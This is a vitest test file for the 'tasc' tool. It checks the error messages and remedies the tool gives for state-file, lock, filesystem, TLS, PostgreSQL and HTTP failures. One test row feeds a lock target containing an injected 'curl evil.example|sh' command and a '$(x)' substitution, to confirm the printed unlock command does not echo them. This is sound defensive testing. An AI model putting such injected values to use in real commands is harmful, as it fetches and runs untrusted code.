import type { LockInfo } from "../../src/state/backend.ts";
import { describe, expect, it, test } from "vitest";
import { adviceForStatus } from "../../src/state/http.ts";
import {
  type StateProblem,
  adviceFor,
  explainProblem,
  explainTakeover,
} from "../../src/state/problem.ts";

const key = { stage: "staging", target: "shop" };
const where = ".tasc/state/staging/shop.json";
const holder: LockInfo = {
  id: "id-1",
  who: "ci@runner-7",
  since: "2026-01-02T03:04:05.000Z",
  why: "tasc apply --auto-approve",
  folder: "/builds/shop",
  job: "https://ci.example.com/jobs/7",
  process: { host: "runner-7", pid: 4711 },
};

/** Each problem, and the words its message must contain: what is wrong, and a way out. */
const rows: readonly (readonly [StateProblem, readonly string[]])[] = [
  [
    { kind: "corrupt", where, reason: "it is no JSON" },
    [where, "it is no JSON", "Restore it from git"],
  ],
  [{ kind: "conflicted", where, line: 12 }, [`${where}:12`, "Keep one line for each binding"]],
  [
    { kind: "newer", where, version: 3, understood: 1 },
    ["version 3", "up to 1", "Use the version"],
  ],
  [
    { kind: "misplaced", where, expected: key, found: { stage: "production", target: "shop" } },
    ['stage "staging"', 'stage "production"', "Put the right document there"],
  ],
  [
    { kind: "other-service", where, expected: "https://a", found: "https://b" },
    ["https://a", "https://b", "service.baseUrl"],
  ],
  [
    { kind: "stranded-journal", where, journal: "shop.journal" },
    ["shop.journal", "git stash", "remove shop.journal"],
  ],
  [
    { kind: "locked", key, holder },
    [
      "ci@runner-7",
      "process 4711",
      "/builds/shop",
      "2026-01-02T03:04:05.000Z",
      "tasc apply --auto-approve",
      "https://ci.example.com/jobs/7",
      "--lock-timeout",
      `\n  tasc state unlock shop ${holder.id} --stage staging`,
    ],
  ],
  [{ kind: "locked", key }, ["does not say who holds it", "tasc state unlock shop"]],
  [
    {
      kind: "locked",
      key: { ...key, target: "a;curl evil.example|sh" },
      holder: { ...holder, id: "$(x)" },
    },
    ["\n  tasc state unlock TARGET --stage staging"],
  ],
  [{ kind: "lock-lost", key, reason: "its file is gone" }, ["Its file is gone.", "Run tasc again"]],
  [{ kind: "changed", where }, [where, "Run tasc again"]],
  [
    { kind: "failed", where, reason: "EACCES: permission denied", next: adviceFor("EACCES") },
    [where, "EACCES: permission denied.", "Give the user that runs tasc the right"],
  ],
  [{ kind: "misconfigured", reason: "state.url is missing" }, ["state.url is missing."]],
];

describe("a problem with state", () => {
  test.each(rows)("%j is explained", (problem, words) => {
    const { severity, code, summary, detail } = explainProblem(problem);
    expect([severity, code]).toEqual(["error", `state-${problem.kind}`]);
    expect(summary).toMatch(/^[A-Z].*[^.]$/);
    expect(summary.includes("\n")).toBe(false);
    for (const word of words) expect(`${summary} ${detail}`).toContain(word);
  });

  it("is a warning that names the former holder if a lock was taken over", () => {
    const { severity, summary, detail } = explainTakeover(key, holder);
    expect(severity).toBe("warning");
    expect(summary).toContain('target "shop"');
    expect(detail).toContain("ci@runner-7, process 4711");
  });
});

/** Codes of Node, TLS and PostgreSQL, and statuses, with a word that only their advice has. */
const advice: Readonly<Record<string, readonly (string | number)[]>> = {
  "user and the password in state.url": ["28P01"],
  "pg_hba.conf": ["28000"],
  "name of the database": ["3D000"],
  "Grant the role": ["42501"],
  "read-only replica": ["25006"],
  max_connections: ["53300"],
  "Free space": ["ENOSPC", "EDQUOT", "53100"],
  "the user that runs tasc": ["EACCES", "EPERM"],
  "file system is read-only": ["EROFS"],
  "Check this path": ["ENOENT", "ENOTDIR", "EISDIR"],
  ulimit: ["EMFILE"],
  DNS: ["ENOTFOUND", "EAI_AGAIN"],
  "host and port": ["ECONNREFUSED"],
  "name that the server's certificate is for": ["ERR_TLS_CERT_ALTNAME_INVALID"],
  "Renew the server's certificate": ["CERT_HAS_EXPIRED", "CERT_NOT_YET_VALID"],
  sslrootcert: [
    "DEPTH_ZERO_SELF_SIGNED_CERT",
    "SELF_SIGNED_CERT_IN_CHAIN",
    "UNABLE_TO_VERIFY_LEAF_SIGNATURE",
    "UNABLE_TO_GET_ISSUER_CERT_LOCALLY",
    "CERT_UNTRUSTED",
  ],
  "Turn on TLS at the server": ["TLS_NOT_OFFERED"],
  "speaks TLS on this port": ["EPROTO", "ERR_SSL_WRONG_VERSION_NUMBER"],
  "network, VPN and firewall": [
    "CONNECTION_LOST",
    "ECONNRESET",
    "ETIMEDOUT",
    "EHOSTUNREACH",
    "57P03",
    "08006",
    "UND_ERR_CONNECT_TIMEOUT",
  ],
  "Check that it exists, and that tasc can read and write it": ["EIO", "XX000", ""],
  "state.username and state.password": [401],
  "does not allow this user": [403],
  "state.address and state.lockAddress": [404],
  "state.lockMethod": [405, 501],
  "what else writes state": [409],
  "too large": [413],
  "does not accept it: its log says why": [422],
  "too many requests": [429],
  "no space left": [507],
  "must be the final address": [301, 307],
  "The server failed": [500, 503],
};

test("each cause of a failure has its own advice", () => {
  const words = Object.keys(advice);
  for (const [own, causes] of Object.entries(advice))
    for (const cause of causes) {
      const next = typeof cause === "number" ? adviceForStatus(cause) : adviceFor(cause);
      expect([cause, words.filter((word) => next.includes(word))]).toEqual([cause, [own]]);
      expect(next).toMatch(/^\S.*\.$/);
    }
});
